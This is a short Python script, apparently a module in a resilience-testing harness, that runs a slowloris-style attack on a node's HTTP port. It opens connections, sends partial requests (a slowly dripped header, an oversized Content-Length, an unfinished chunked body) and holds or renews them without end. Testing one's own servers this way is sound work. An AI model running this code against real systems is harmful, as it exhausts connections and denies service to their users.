"""Begin HTTP requests and never end them: a byte of a header a second, or a body that stays out.

`--address` is that of the node's HTTP port.
"""

import argparse
import asyncio
import random

from attack import Line, arguments, main

_BEGINS = (
    b"G",
    b"GET /status.json HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ",
    b"POST /status.json HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 1000000000\r\n\r\n",
    b"POST / HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n\r\nfffffff\r\n",
)


async def attack(line: Line, options: argparse.Namespace) -> None:
    """One connection after another, until the program ends."""
    while True:
        try:
            await line.write(random.choice(_BEGINS))
            while True:
                await asyncio.sleep(1.0)
                await line.write(b"x")
        except ConnectionError:
            await line.renew(Line.secured)


if __name__ == "__main__":
    main(attack, arguments(), begin=Line.secured)
